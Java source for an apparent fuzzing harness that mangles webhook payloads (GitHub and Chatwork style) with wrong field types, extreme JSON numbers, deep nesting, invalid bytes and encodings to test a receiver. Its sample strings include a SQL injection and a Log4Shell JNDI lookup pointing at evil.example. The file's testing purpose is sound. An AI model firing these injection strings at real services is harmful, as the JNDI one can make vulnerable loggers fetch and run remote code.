package dev.utakata.webhook;

import dev.utakata.webhook.HostileRequest.Sample;
import dev.utakata.world.HostileTexts;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** A payload made worse: fields of other kinds and sizes, JSON that is none, and bytes that are no text. */
final class HostileBody {

    /** What is read of payloads, so that most changes are seen by somebody. */
    private static final List<String> READ = List.of(
            "/action",
            "/repository/id",
            "/repository/full_name",
            "/sender/login",
            "/sender/type",
            "/comment/body",
            "/comment/id",
            "/comment/performed_via_github_app",
            "/issue/number",
            "/issue/pull_request",
            "/pull_request/number",
            "/pull_request/head/ref",
            "/workflow_run/id",
            "/workflow_run/run_attempt",
            "/check_run/head_sha",
            "/repositories",
            "/repositories_added",
            "/webhook_event_type",
            "/webhook_event/from_account_id",
            "/webhook_event/account_id",
            "/webhook_event/room_id",
            "/webhook_event/message_id",
            "/webhook_event/body",
            "/webhook_event/send_time",
            "/webhook_event/update_time");

    /** Where a value is written as it stands here, JSON or not. */
    private static final String MARK = "@@RAW@@";

    private static final List<String> TEXTS = Stream.concat(
                    Stream.of(
                            "",
                            "/test-tag",
                            "/test-tag stop",
                            "/test-tag why",
                            "/test-tag --ttl 99999999999h",
                            "/test-tag --sha " + "f".repeat(40),
                            "/test-tga",
                            "\uFF0Ftest-tag help",
                            "[To:900] list",
                            "[To:900] stop shop-pr-1",
                            "[rp aid=900 to=4242-1] status",
                            "created",
                            "edited",
                            "closed",
                            "completed",
                            "User",
                            "Bot",
                            "mallory",
                            "acme/shop",
                            "utakata/shop-pr-1",
                            "a/../b",
                            "4242",
                            "mention_to_me",
                            "message_updated",
                            "'; drop table environment; --",
                            "${jndi:ldap://evil.example/x}",
                            "x\u0000y",
                            "x".repeat(2_100),
                            "泡".repeat(800)),
                    HostileTexts.all().filter(text -> text.length() < 1_000))
            .toList();

    private static final List<String> RAW = Stream.concat(
                    Stream.of(
                            "null",
                            "true",
                            "0",
                            "-1",
                            "1",
                            "[]",
                            "{}",
                            "\"\"",
                            "1.5",
                            "-0",
                            "1e3",
                            "007",
                            "NaN",
                            "+1",
                            "2147483648",
                            "9223372036854775807",
                            "9223372036854775808",
                            "-9223372036854775809",
                            "1e400",
                            "1e-400",
                            "1e999999999",
                            "9".repeat(400),
                            "9".repeat(1_100),
                            "0x10",
                            "'a'",
                            "\"a",
                            "\"\\ud800\"",
                            "\"\\udc00x\"",
                            "\"\\u0000\"",
                            "\"\\q\"",
                            "\"a\nb\"",
                            "[1,]",
                            "{\"a\"}",
                            "{\"id\":1,\"id\":2}",
                            "{\"id\":{\"id\":{\"id\":1}}}",
                            "[{\"id\":1},{\"id\":\"1\"},7,null]",
                            "/* */ 1",
                            "\"\\ud83d\\ude00\"",
                            "{\"\":\"\"}",
                            "tru",
                            ""),
                    Stream.of(100, 499, 501, 5_000)
                            .flatMap(depth -> Stream.of(
                                    "[".repeat(depth) + "]".repeat(depth),
                                    "{\"a\":".repeat(depth) + "1" + "}".repeat(depth))))
            .toList();

    private static final List<byte[]> BAD = Stream.of(
                    "c0 80", "ed a0 80", "ff", "fe ff", "ef bb bf", "f4 90 80 80", "00", "e3 81", "0d 0a", "1b")
            .map(hex -> HexFormat.ofDelimiter(" ").parseHex(hex))
            .toList();

    private HostileBody() {}

    /** @param number of the request, which is that of its comment or message too, so that each is a new one */
    static byte[] of(Choices choices, Sample sample, long number) {
        List<String> raw = new ArrayList<>();
        int changes = choices.below(4);
        JsonNode changed = changes == 0 ? sample.payload() : sample.payload().deepCopy();
        for (int i = 0; i < changes; i++) {
            change(choices, changed, raw);
        }
        String text = (changes == 0 ? sample.text() : changed.toString())
                .replace("\"id\":77,", "\"id\":" + (1_000 + number) + ",")
                .replace("\"message_id\":\"77\"", "\"message_id\":\"" + (1_000 + number) + "\"");
        for (String value : raw) {
            int mark = text.indexOf(MARK);
            if (mark > 0) {
                text = text.substring(0, mark - 1) + value + text.substring(mark + MARK.length() + 1);
            }
        }
        if (choices.percent(4)) {
            text = text.replaceFirst("\"id\":", "\"id\":1,\"id\":");
        }
        if (choices.percent(1)) {
            text = "{\"padding\":\"" + "p".repeat(100_000 * (1 + choices.below(4))) + "\"," + text.substring(1);
        }
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return choices.percent(15) ? spoiled(choices, bytes, text) : bytes;
    }

    private static void change(Choices choices, JsonNode root, List<String> raw) {
        ObjectNode at = (ObjectNode) root;
        String name;
        if (choices.percent(30)) {
            name = anyName(choices, at);
            while (at.path(name) instanceof ObjectNode inner && !inner.isEmpty() && choices.percent(70)) {
                at = inner;
                name = anyName(choices, at);
            }
        } else {
            String[] path = choices.of(READ).substring(1).split("/");
            for (int i = 0; i < path.length - 1; i++) {
                JsonNode next = at.path(path[i]);
                if (!(next instanceof ObjectNode)) {
                    next = at.putObject(path[i]);
                }
                at = (ObjectNode) next;
            }
            name = path[path.length - 1];
        }
        switch (choices.below(6)) {
            case 0 -> at.remove(name);
            case 1, 2 -> at.put(name, choices.of(TEXTS));
            case 3, 4 -> {
                at.put(name, MARK);
                raw.add(choices.of(RAW));
            }
            default -> {
                JsonNode old = at.path(name);
                ArrayNode list = at.putArray(name);
                for (int i = choices.below(4); i >= 0; i--) {
                    list.add(old.deepCopy());
                }
            }
        }
    }

    private static String anyName(Choices choices, ObjectNode object) {
        List<Map.Entry<String, JsonNode>> all = List.copyOf(object.properties());
        return all.isEmpty() ? "new" : choices.of(all).getKey();
    }

    private static byte[] spoiled(Choices choices, byte[] bytes, String text) {
        int from = choices.below(Math.max(1, bytes.length));
        int to = Math.min(bytes.length, from + choices.below(64));
        return switch (choices.below(10)) {
            case 0 -> Arrays.copyOf(bytes, from);
            case 1 -> joined(Arrays.copyOf(bytes, from), Arrays.copyOfRange(bytes, to, bytes.length));
            case 2 -> joined(Arrays.copyOf(bytes, to), Arrays.copyOfRange(bytes, from, bytes.length));
            case 3 ->
                joined(
                        joined(Arrays.copyOf(bytes, from), choices.of(BAD)),
                        Arrays.copyOfRange(bytes, from, bytes.length));
            case 4 -> flipped(choices, bytes, from);
            case 5 ->
                text.getBytes(choices.of(List.of(
                        StandardCharsets.UTF_16,
                        StandardCharsets.UTF_16LE,
                        StandardCharsets.UTF_16BE,
                        StandardCharsets.UTF_32)));
            case 6 -> joined(choices.of(BAD), bytes);
            case 7 ->
                joined(
                        bytes,
                        choices.of(List.of("}", " ", "\u0000", "{}", "]", "garbage"))
                                .getBytes(StandardCharsets.UTF_8));
            case 8 -> zipped(bytes);
            default ->
                choices.of(List.of("", "null", "[]", "\"\"", "0", "{", "payload=%7B%7D", "--x\r\n\r\n{}\r\n--x--"))
                        .getBytes(StandardCharsets.UTF_8);
        };
    }

    private static byte[] flipped(Choices choices, byte[] bytes, int at) {
        byte[] flipped = bytes.clone();
        if (flipped.length > 0) {
            flipped[at] ^= (byte) (1 << choices.below(8));
        }
        return flipped;
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] joined = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }

    private static byte[] zipped(byte[] bytes) {
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(zipped)) {
            out.write(bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return zipped.toByteArray();
    }
}
